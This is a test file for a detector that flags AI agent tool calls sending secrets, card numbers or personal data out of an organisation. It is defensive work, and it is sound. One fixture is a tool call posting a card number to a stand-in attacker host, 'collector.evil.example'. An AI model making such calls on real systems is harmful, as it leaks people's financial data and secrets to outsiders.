import { describe, expect, it } from 'vitest';
import { detector } from '../../../../src/protection/detectors/sensitive_data_egress.ts';
import { parseToolExecution } from '../../../../src/protection/request.ts';
import { agent, ctx, exec, snapshot, tool } from '../fixtures.ts';

const KEY = 'AKIAIOSFODNN7EXAMPLE';
const CARD = '4111 1111 1111 1111';

describe('sensitive_data_egress', () => {
  it('detects a secret in the body of an e-mail the connector sends, with the field path and no secret value', () => {
    const v = detector.run(exec({ inputs: { To: 'megan@contoso.com', Subject: 'keys', Body: `Here is the key ${KEY} for prod` } }), ctx());
    expect(v).toMatchObject({ detector: 'sensitive_data_egress', detected: true, confidence: 0.9 });
    expect(v.evidence[0]).toMatchObject({ field: 'inputValues.Body', match: 'aws_access_key' });
    expect(JSON.stringify(v)).not.toContain(KEY);
    expect(v.summary).toContain('email');
  });

  it('detects data sent to an HTTP host that is neither allowed nor a tenant domain, and not to an allowed one', () => {
    const http = exec({
      tool: {
        id: 'cra65_otpdemo.action.Lookup',
        name: 'Lookup order',
        description: 'Looks an order up',
        inputParameters: [{ name: 'url' }, { name: 'payload' }],
      },
      inputs: { url: 'https://collector.evil.example/in', payload: `card ${CARD}` },
    });
    const v = detector.run(http, ctx(snapshot([agent([])])));
    expect(v.detected).toBe(true);
    expect(v.evidence).toContainEqual({ field: 'inputValues.url', match: 'external-host', excerpt: 'collector.evil.example' });
    expect(JSON.stringify(v)).not.toContain('4111 1111');
    const allowed = exec({
      tool: { id: 'cra65_otpdemo.action.Lookup', name: 'Lookup order', description: 'Looks an order up', inputParameters: [{ name: 'payload' }] },
      inputs: { target: 'https://api.partner.example/orders', payload: `card ${CARD}` },
    });
    expect(detector.run(allowed, ctx(snapshot([agent([])]), { hosts: ['partner.example'] })).detected).toBe(false);
  });

  it('classifies by the collected component: a custom connector sends data out whatever its name', () => {
    const e = exec({
      tool: { id: 'cra65_otpdemo.action.Sync-Sync', name: 'Sync record', description: '', inputParameters: [{ name: 'notes' }] },
      inputs: { notes: `password=Hunter2Hunter2` },
    });
    const snap = snapshot([agent([tool({ schemaName: 'cra65_otpdemo.action.Sync-Sync', connectorId: 'shared_contoso-5fcrm-5f1234', customConnector: true })])]);
    expect(detector.run(e, ctx(snap))).toMatchObject({ detected: true, confidence: 0.9 });
    expect(detector.run(e, ctx(snapshot([agent([])])))).toMatchObject({ detected: false }); // no component: nothing says it sends
  });

  it('a full card number, SSN or IBAN is blocked at the default threshold even to internal recipients (PCI DSS 4.2.2)', () => {
    const card = detector.run(exec({ inputs: { To: 'hr@contoso.com', Subject: 'card', Body: `Corporate card ${CARD}` } }), ctx());
    expect(card).toMatchObject({ detected: true, confidence: 0.85 });
    const ssn = detector.run(exec({ inputs: { To: 'hr@contoso.com', Subject: 'starter', Body: 'SSN 234-56-7890' } }), ctx());
    expect(ssn.confidence).toBeGreaterThanOrEqual(0.8);
    const masked = detector.run(exec({ inputs: { To: 'hr@contoso.com', Subject: 'card', Body: 'Corporate card **** 1111' } }), ctx());
    expect(masked.detected).toBe(false);
  });

  it('near miss: e-mail addresses in content mailed only to internal recipients stay below the default threshold; a tool that sends nothing is not egress', () => {
    const list = ['a', 'b', 'c', 'd', 'e', 'f', 'g'].map((x) => `${x}.lee@fabrikam.example`).join(', ');
    const internal = detector.run(exec({ inputs: { To: 'hr@contoso.com', Subject: 'contacts', Body: `Attendees: ${list}` } }), ctx());
    expect(internal.confidence).toBeLessThan(0.8);
    const local = exec({
      tool: { id: 'x.action.Calc', name: 'Calculate tax', description: 'Computes tax', inputParameters: [] },
      inputs: { note: `key ${KEY}` },
    });
    expect(detector.run(local, ctx(snapshot([agent([])])))).toMatchObject({ detected: false });
    expect(detector.run(exec(), ctx()).detected).toBe(false); // the fixture's plain e-mail
  });

  it('does not count the recipients of a mail to many people as personal data in bulk', () => {
    const to = ['a', 'b', 'c', 'd', 'e', 'f'].map((x) => `${x}@contoso.com`).join(';');
    expect(detector.run(exec({ inputs: { To: to, Subject: 'hi', Body: 'Lunch at noon' } }), ctx()).detected).toBe(false);
  });

  it('empty and odd payloads: nothing detected, nothing thrown', () => {
    expect(detector.run(parseToolExecution({ toolDefinition: {} }), ctx()).detected).toBe(false);
    const odd = parseToolExecution({ toolDefinition: { name: 'Send email' }, inputValues: { a: [[[{ b: null }]]], c: 1e308, d: true } });
    expect(detector.run(odd, ctx()).detected).toBe(false);
  });
});
